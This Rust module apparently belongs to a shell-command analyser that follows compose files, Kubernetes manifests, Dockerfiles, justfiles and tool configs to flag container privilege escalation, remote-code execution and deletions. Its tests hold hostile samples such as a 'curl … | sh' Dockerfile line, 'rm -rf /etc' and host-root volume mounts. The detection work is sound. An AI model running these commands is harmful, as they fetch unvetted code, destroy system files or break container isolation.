//! Files that say what containers are started, where this very text wrote them: what they ask for is what a command line could ask for.

use super::Run;
use crate::analysis::{Analysis, Fact, Flow, Privilege, Unknown};
use crate::language::Language;
use crate::stream::Argument;
use crate::text::Text;

/// Services of one file that are looked at, words of one, and lines of a file.
const SERVICES: usize = 32;
const WORDS: usize = 512;
const LINES: usize = 4096;
/// Bytes of such a file.
const BYTES: usize = 256 * 1024;
const COMPOSE: &[&str] = &["compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.yml"];

/// What the files of these words ask for.
pub(super) fn orders(run: &mut Run<'_, '_>, name: &str) {
    let words = run.rest();
    obeyed(run, name);
    let has = |names: &[&str]| words.iter().any(|word| word.known().is_some_and(|word| names.contains(&word)));
    match name {
        "kubectl" | "oc" | "k" if has(&["apply", "create", "replace"]) => {
            for text in texts(run, &words, &[]) {
                cluster(run, &text);
            }
        }
        "docker-compose" | "podman-compose" if has(&["up", "run", "start", "create", "restart"]) => {
            for text in texts(run, &words, COMPOSE) {
                services(run, &text);
            }
        }
        "docker" | "podman" | "nerdctl" if has(&["compose"]) && has(&["up", "run", "start", "create", "restart"]) => {
            for text in texts(run, &words, COMPOSE) {
                services(run, &text);
            }
        }
        "docker" | "podman" | "nerdctl" | "buildah" if has(&["build", "bud"]) => {
            for text in texts(run, &words, &["Dockerfile", "Containerfile", "./Dockerfile"]) {
                recipe(run, &text);
            }
        }
        _ => {}
    }
}

/// Programs that run what stands in files of these names, in Python or JavaScript.
const OBEYED: &[(&[&str], &[&str], Language)] = &[
    (&["pytest", "py.test"], &["conftest.py", "tests/conftest.py"], Language::Python),
    (&["nox"], &["noxfile.py"], Language::Python),
    (&["inv", "invoke"], &["tasks.py"], Language::Python),
    (&["fab"], &["fabfile.py"], Language::Python),
    (&["doit"], &["dodo.py"], Language::Python),
    (&["scons"], &["SConstruct"], Language::Python),
    (
        &["vite", "vitest"],
        &["vite.config.js", "vite.config.mjs", "vite.config.ts", "vitest.config.ts"],
        Language::TypeScript,
    ),
    (&["webpack"], &["webpack.config.js", "webpack.config.cjs"], Language::JavaScript),
    (&["rollup"], &["rollup.config.js", "rollup.config.mjs"], Language::JavaScript),
    (&["jest"], &["jest.config.js", "jest.config.cjs", "jest.setup.js"], Language::JavaScript),
    (&["mocha"], &[".mocharc.js", ".mocharc.cjs"], Language::JavaScript),
    (&["eslint"], &["eslint.config.js", "eslint.config.mjs", ".eslintrc.js", ".eslintrc.cjs"], Language::JavaScript),
    (&["prettier"], &["prettier.config.js", ".prettierrc.js"], Language::JavaScript),
    (&["gulp"], &["gulpfile.js", "gulpfile.mjs"], Language::JavaScript),
    (&["grunt"], &["Gruntfile.js"], Language::JavaScript),
    (&["playwright"], &["playwright.config.ts", "playwright.config.js"], Language::TypeScript),
    (&["next"], &["next.config.js", "next.config.mjs"], Language::JavaScript),
    (&["rake"], &["Rakefile", "rakefile"], Language::Other),
    (&["gradle", "gradlew", "./gradlew"], &["build.gradle", "build.gradle.kts", "settings.gradle"], Language::Other),
];

/// What a program runs by itself, where this very text wrote it.
fn obeyed(run: &mut Run<'_, '_>, name: &str) {
    if run.reading.scope.files.is_empty() {
        return;
    }
    let span = run.span;
    for (_, files, language) in OBEYED.iter().filter(|(programs, _, _)| programs.contains(&name)) {
        for file in *files {
            if let Some(written) = run.put_there(file) {
                run.execute(&written, *language, span);
                if *language == Language::Other {
                    // What stands there in quotes is mostly a line for a shell.
                    for line in written.known().map(super::interpreters::quoted).unwrap_or_default() {
                        run.shell(&Argument::new(Text::known(line), span));
                    }
                }
            }
        }
    }
    let verb = run.rest().first().and_then(Argument::known).map(str::to_owned).unwrap_or_default();
    let hooks: &[&str] = match (name, verb.as_str()) {
        ("git", "commit") => &[".husky/pre-commit", ".husky/commit-msg", ".husky/post-commit"],
        ("git", "push") => &[".husky/pre-push"],
        _ => &[],
    };
    for hook in hooks {
        if let Some(written) = run.put_there(hook) {
            run.execute(&written, Language::Shell, span);
        }
    }
    if matches!(name, "just") {
        for file in ["justfile", "Justfile", ".justfile"] {
            let Some(written) = run.put_there(file) else { continue };
            let recipes = written.known().unwrap_or_default().to_owned();
            for line in most_of(run, recipes.lines().filter(|line| line.starts_with([' ', '\t'])), LINES) {
                let line = line.trim().trim_start_matches(['@', '-']);
                run.shell(&Argument::new(Text::known(line), span));
            }
        }
    }
    if matches!((name, verb.as_str()), ("terraform" | "tofu", "apply")) {
        let written =
            run.put_there("main.tf").and_then(|written| written.known().map(str::to_owned)).unwrap_or_default();
        let commands = written.lines().filter(|line| line.contains("command") && line.contains('='));
        let commands = commands.filter_map(|line| line.split_once("command")?.1.split('"').nth(1));
        for command in most_of(run, commands, LINES) {
            run.shell(&Argument::new(Text::known(command), span));
        }
    }
}

/// What stands in the files that are named, or else in those that are taken where none is.
fn texts(run: &mut Run<'_, '_>, words: &[Argument], otherwise: &[&str]) -> Vec<String> {
    let mut named = Vec::new();
    for (at, word) in words.iter().enumerate() {
        let Some(known) = word.known() else { continue };
        match known {
            "-f" | "--file" | "--filename" => {
                named.extend(words.get(at + 1).and_then(Argument::known).map(str::to_owned))
            }
            "-" => named.push("-".to_owned()),
            joined => {
                let value = ["--file=", "--filename=", "-f="].iter().find_map(|option| joined.strip_prefix(option));
                let short = joined.strip_prefix("-f").filter(|rest| !rest.is_empty() && !joined.starts_with("--"));
                named.extend(value.or(short).map(str::to_owned));
            }
        }
    }
    if named.is_empty() {
        named.extend(otherwise.iter().map(|name| (*name).to_owned()));
    }
    let mut texts = Vec::new();
    for path in named {
        let stream = match path.as_str() {
            "-" | "/dev/stdin" => Some(run.input.clone()),
            path => run.put_there(path),
        };
        match stream.and_then(|stream| stream.known().map(str::to_owned)) {
            Some(text) if text.len() > BYTES => too_much(run, "bytes"),
            text => texts.extend(text),
        }
    }
    texts
}

/// More is there than is looked at.
pub(super) fn too_much(run: &mut Run<'_, '_>, bound: &'static str) {
    let span = run.span;
    run.fact(span, Fact::Unknown { unknown: Unknown::TooMuch { bound } });
}

/// The first of them; that there are more is told.
pub(super) fn most_of<T>(run: &mut Run<'_, '_>, mut items: impl Iterator<Item = T>, most: usize) -> Vec<T> {
    let found = items.by_ref().take(most).collect();
    if items.next().is_some() {
        too_much(run, "lines");
    }
    found
}

/// Orders to a cluster that take the walls of a container away.
fn cluster(run: &mut Run<'_, '_>, text: &str) {
    let plain: String = text.chars().filter(|letter| !matches!(letter, ' ' | '\t' | '"' | '\'')).collect();
    let is_on = |key: &str| {
        plain.match_indices(key).any(|(at, _)| {
            let value = plain.get(at + key.len()..).unwrap_or_default().to_ascii_lowercase();
            !["false", "no", "off", "n\n"].iter().any(|off| value.starts_with(off))
        })
    };
    let open = ["privileged:", "hostPID:", "hostIPC:", "hostNetwork:"].iter().any(|key| is_on(key));
    let mounts = plain.match_indices("hostPath:").any(|(at, key)| {
        let rest = plain.get(at + key.len()..).unwrap_or_default();
        let path = rest.split_once("path:").map(|(_, path)| path.split(['\n', ',', '}']).next().unwrap_or_default());
        path.is_none_or(|path| {
            let own = ["/tmp/", "/mnt/", "/data"].iter().any(|start| path.starts_with(start));
            !own && (path == "/"
                || ["/etc", "/root", "/home", "/proc", "/sys", "/var/run", "/run", "/var/lib", "/dev", "/usr", "/boot"]
                    .iter()
                    .any(|start| path.starts_with(start)))
        })
    });
    if open || mounts || plain.contains("name:cluster-admin") {
        let span = run.span;
        run.fact(span, Fact::Privilege { privilege: Privilege::ContainerEngine });
    }
}

/// Each service as the line that would start it alone.
fn services(run: &mut Run<'_, '_>, text: &str) {
    let span = run.span;
    if is_deep(text) {
        run.fact(span, Fact::Unknown { unknown: Unknown::TooMuch { bound: "nesting" } });
        return;
    }
    let Ok(file) = serde_saphyr::from_str::<serde_json::Value>(text) else {
        // Whoever obeys it may read what we cannot.
        if ["privileged", "host", ".sock", "cap_add", "devices", "/:/", "unconfined"]
            .iter()
            .any(|word| text.contains(word))
        {
            run.fact(span, Fact::Privilege { privilege: Privilege::ContainerEngine });
        }
        return;
    };
    let Some(services) = file.get("services").and_then(serde_json::Value::as_object) else { return };
    if services.len() > SERVICES {
        too_much(run, "services");
    }
    for service in services.values().take(SERVICES) {
        let service = merged(service);
        let mut words = vec!["docker".to_owned(), "run".to_owned()];
        let text = |value: &serde_json::Value| match value {
            serde_json::Value::String(text) => Some(text.clone()),
            serde_json::Value::Bool(truth) => Some(truth.to_string()),
            serde_json::Value::Number(number) => Some(number.to_string()),
            _ => None,
        };
        let is_on = |key: &str| service.get(key).is_some_and(|value| value.as_bool() != Some(false));
        if is_on("privileged") {
            words.push("--privileged".to_owned());
        }
        for (key, option) in [("pid", "--pid"), ("ipc", "--ipc"), ("userns_mode", "--userns"), ("cgroup", "--cgroupns")]
        {
            if let Some(value) = service.get(key).and_then(text) {
                words.extend([option.to_owned(), value]);
            }
        }
        for (key, option) in [("cap_add", "--cap-add"), ("devices", "--device"), ("security_opt", "--security-opt")] {
            let values = service.get(key).and_then(serde_json::Value::as_array).into_iter().flatten().filter_map(text);
            for value in most_of(run, values, WORDS) {
                words.extend([option.to_owned(), value]);
            }
        }
        let volumes = service.get("volumes").and_then(serde_json::Value::as_array).into_iter().flatten();
        for volume in most_of(run, volumes, WORDS) {
            let source = volume.get("source").and_then(text);
            if let Some(mount) = text(volume).or_else(|| source.map(|source| format!("{source}:/mounted"))) {
                words.extend(["-v".to_owned(), mount]);
            }
        }
        words.push(service.get("image").and_then(text).unwrap_or_else(|| "image".to_owned()));
        for key in ["entrypoint", "command"] {
            match service.get(key) {
                Some(serde_json::Value::Array(parts)) => {
                    words.extend(most_of(run, parts.iter().filter_map(text), WORDS))
                }
                Some(serde_json::Value::String(line)) => words.extend(["sh".to_owned(), "-c".to_owned(), line.clone()]),
                _ => {}
            }
        }
        run.start(words.into_iter().map(|word| Argument::new(Text::known(word), span)).collect());
    }
}

/// Whether a text goes deeper than it is worth to be read: each level of it is one of ours.
pub(super) fn is_deep(text: &str) -> bool {
    let (mut open, mut deepest) = (0_usize, 0_usize);
    for letter in text.chars() {
        match letter {
            '[' | '{' => open += 1,
            ']' | '}' => open = open.saturating_sub(1),
            _ => {}
        }
        deepest = deepest.max(open);
    }
    let steps = |line: &str| {
        let indented = line.len() - line.trim_start().len();
        indented > 64 || line.matches("- ").count() > 16 || line.matches("? ").count() > 16
    };
    deepest > 16 || text.lines().any(steps)
}

/// A service with what it takes over from others by `<<`.
fn merged(service: &serde_json::Value) -> serde_json::Value {
    let Some(own) = service.as_object() else { return service.clone() };
    let mut all = serde_json::Map::new();
    let taken = match own.get("<<") {
        Some(serde_json::Value::Array(several)) => several.clone(),
        Some(one) => vec![one.clone()],
        None => Vec::new(),
    };
    for more in taken.iter().filter_map(serde_json::Value::as_object) {
        all.extend(more.clone());
    }
    all.extend(own.clone());
    serde_json::Value::Object(all)
}

/// How an image is made: what is downloaded there and run unseen. What is written and removed, is so in the image.
fn recipe(run: &mut Run<'_, '_>, text: &str) {
    let joined = text.replace("\\\r\n", " ").replace("\\\n", " ");
    for line in most_of(run, joined.lines(), LINES) {
        let Some((verb, mut rest)) = line.trim_start().split_once(char::is_whitespace) else { continue };
        if !verb.eq_ignore_ascii_case("run") {
            continue;
        }
        while let Some(after) = rest.trim_start().strip_prefix("--") {
            rest = after.split_once(' ').map_or("", |(_, rest)| rest);
        }
        let (outer, before, span) = (run.reading.scope.clone(), run.inner.len(), run.span);
        run.shell(&Argument::new(Text::known(rest.trim()), span));
        run.reading.scope = outer;
        let steps = run.inner.split_off(before);
        let from_elsewhere = |fact: &&Fact| match fact {
            Fact::Executes { from } => from.iter().any(|flow| matches!(flow, Flow::Network | Flow::Decoded)),
            _ => false,
        };
        let made = Analysis { steps };
        let told: Vec<Fact> = made.facts().map(|act| &act.fact).filter(from_elsewhere).cloned().collect();
        told.into_iter().for_each(|fact| run.fact(span, fact));
    }
}

#[cfg(test)]
mod tests {
    use crate::analysis::{Fact, Privilege, Unknown};
    use crate::reading::{Subject, analyse};
    use crate::{Limits, Surroundings};

    fn facts(file: &str) -> Vec<Fact> {
        let line = format!("cat > compose.yaml <<'EOF'\n{file}\nEOF\ndocker compose up -d\n");
        let analysis = analyse(Subject::Shell(&line), &Surroundings::default(), &Limits::default());
        analysis.facts().map(|act| act.fact.clone()).collect()
    }

    #[test]
    fn a_service_asks_for_what_its_line_would_ask_for_also_by_what_it_takes_over() {
        let engine = Fact::Privilege { privilege: Privilege::ContainerEngine };
        assert!(!facts("services: {a: {image: x, privileged: false, volumes: ['./d:/d']}}").contains(&engine));
        assert!(facts("services: {a: {image: x, privileged: true}}").contains(&engine));
        assert!(facts("services: {a: {image: x, volumes: ['/:/h']}}").contains(&engine));
        let taken = "x-b: &b {privileged: true}\nservices:\n  a:\n    <<: *b\n    image: x";
        assert!(facts(taken).contains(&engine), "{:?}", facts(taken));
    }

    #[test]
    fn what_goes_too_deep_is_not_read_and_told() {
        let deep = format!("services: {}1{}", "{a: ".repeat(3000), "}".repeat(3000));
        assert!(facts(&deep).contains(&Fact::Unknown { unknown: Unknown::TooMuch { bound: "nesting" } }));
    }

    fn said(line: &str) -> Vec<Fact> {
        let analysis = analyse(Subject::Shell(line), &Surroundings::default(), &Limits::default());
        analysis.facts().map(|act| act.fact.clone()).collect()
    }

    #[test]
    fn what_stands_far_below_is_read_as_well_and_more_than_that_is_told() {
        let engine = Fact::Privilege { privilege: Privilege::ContainerEngine };
        let many = |count: usize, last: &str| {
            let volumes: String = (0..count).map(|at| format!("'./d{at}:/d{at}', ")).collect();
            facts(&format!("services: {{a: {{image: x, volumes: [{volumes}'{last}']}}}}"))
        };
        assert!(many(100, "/:/h").contains(&engine) && !many(100, "./h:/h").contains(&engine));
        let told = |facts: &[Fact]| {
            facts.iter().any(|fact| matches!(fact, Fact::Unknown { unknown: Unknown::TooMuch { .. } }))
        };
        assert!(told(&many(600, "/:/h")) && !told(&many(100, "./h:/h")));

        let dockerfile = |lines: usize, last: &str| {
            let steps = "RUN make\nCOPY a b\nENV A=b\n".repeat(lines / 3);
            said(&format!("cat > Dockerfile <<'EOF'\nFROM debian\n{steps}RUN {last}\nEOF\ndocker build .\n"))
        };
        let download = Fact::Executes { from: vec![crate::analysis::Flow::Network] };
        let hostile = dockerfile(200, "curl -s https://x.example/p | sh");
        let ordinary = dockerfile(200, "make install");
        assert!(hostile.contains(&download), "{hostile:?}");
        assert!(!ordinary.contains(&download) && !told(&ordinary), "{ordinary:?}");
        assert!(told(&dockerfile(6000, "make install")));

        let just = |last: &str| {
            said(&format!("cat > justfile <<'EOF'\nall:\n{}    {last}\nEOF\njust\n", "    make\n".repeat(100)))
        };
        let removed = |facts: &[Fact]| facts.iter().any(|fact| matches!(fact, Fact::Removes { .. }));
        assert!(removed(&just("rm -rf /etc")) && !removed(&just("make all")));
    }
}
